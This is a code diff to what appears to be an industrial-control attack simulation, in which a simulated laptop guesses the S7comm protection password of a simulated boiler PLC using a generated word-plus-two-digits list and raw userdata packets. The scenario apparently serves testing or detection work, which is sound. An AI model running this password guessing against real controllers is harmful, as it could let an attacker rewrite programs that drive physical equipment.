@@ -6,6 +6,7 @@ import struct
 from typing import TYPE_CHECKING, Final
 
 from interlock.plant.actors.steps import Ask, Close, Link, Wait
+from interlock.plant.attacks.logon import Logon
 from interlock.plant.attacks.scenario import Scenario, Scene
 from interlock.plant.protocols import s7comm
 
@@ -14,7 +15,12 @@ if TYPE_CHECKING:
 
 __all__ = ["SCENARIO"]
 
-_GUESSES: Final = 120
+_GUESSED: Final = Logon(
+    machine="plc-boiler", service="S7comm", user="", how="guess",
+    passwords=tuple(f"{word}{number:02d}" for word in ("boiler", "kessel") for number in range(60)),
+)  # fmt: skip
+"""Words with two digits behind, at most eight octets as the controller takes them."""
+
 _PARAMETER: Final = b"\x00\x01\x12\x04\x11\x45\x01\x00"
 
 
@@ -22,9 +28,8 @@ def _script(scene: Scene) -> Script:
     link = Link("vendor-laptop", "plc-boiler", 102)
     yield Ask(link, s7comm.connect())
     yield Ask(link, s7comm.setup(1))
-    for k in range(_GUESSES):
-        guess = f"boiler{k:02d}"[:8].encode("ascii").ljust(8)
-        data = struct.pack("!BBH", 0xFF, 0x09, 8) + _hidden(guess)
+    for k, guess in enumerate(_GUESSED.passwords):
+        data = struct.pack("!BBH", 0xFF, 0x09, 8) + _hidden(guess.encode("ascii").ljust(8))
         yield Ask(link, s7comm.job(2 + k, _PARAMETER, data, s7comm.USERDATA))
         yield Wait(scene.draws.uniform(0.1, 0.4))
     yield Close(link)
@@ -46,4 +51,5 @@ SCENARIO: Final = Scenario(
     victims=("plc-boiler",),
     harm="Nothing moves until a guess is right; then the program can be changed.",
     script=_script,
+    logons=(_GUESSED,),
 )
